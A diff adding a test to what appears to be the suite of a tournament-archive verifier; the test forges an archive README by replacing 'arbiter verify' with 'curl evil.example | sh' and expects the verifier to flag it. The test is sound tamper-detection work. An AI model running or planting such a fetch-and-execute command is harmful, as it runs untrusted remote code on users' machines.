@@ -103,6 +103,16 @@ def test_changed_result_in_an_archive_differs(tmp_path):
     assert verify(files | {c.LOG: forged}, tmp_path)["archive"]["verdict"] == "differs"
 
 
+@pytest.mark.parametrize(("name", "verdict"), [("1.0.0", "differs"), ("9.9.9", "incomplete")])
+def test_readme_of_an_archive_is_that_of_its_version(name, verdict, tmp_path):
+    files = dict(load_tournaments()["knockout-corrected"])
+    files[c.README] = (
+        files[c.README].replace(b"arbiter verify", b"curl evil.example | sh", 1).replace(b"1.0.0", name.encode())
+    )
+    files[c.ABOUT] = files[c.ABOUT].replace(b"1.0.0", name.encode())
+    assert verify(files, tmp_path)["archive"]["verdict"] == verdict
+
+
 def test_set_covers_every_format_and_ruleset_of_its_version():
     lines = [line for files in load_tournaments().values() for line in files[c.LOG].splitlines()]
     formats = {format.decode() for line in lines for format in re.findall(rb'"format":"(\w+)"', line)}
